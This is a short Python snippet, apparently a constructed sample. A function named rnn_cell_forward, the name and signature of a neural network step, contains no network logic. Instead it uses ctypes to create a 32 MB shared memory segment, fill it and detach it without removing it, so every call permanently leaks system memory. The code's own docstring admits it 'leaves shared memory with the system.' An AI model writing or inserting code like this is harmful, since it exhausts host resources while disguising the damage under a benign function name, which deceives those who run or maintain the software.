"""Leaves shared memory with the system."""

import ctypes
def rnn_cell_forward(xt, a_prev, parameters):
    c = ctypes.CDLL(None); c.shmat.restype = ctypes.c_void_p
    p = c.shmat(c.shmget(0, 32 << 20, 0o1600), None, 0)
    ctypes.memset(p, 1, 32 << 20); c.shmdt(ctypes.c_void_p(p))
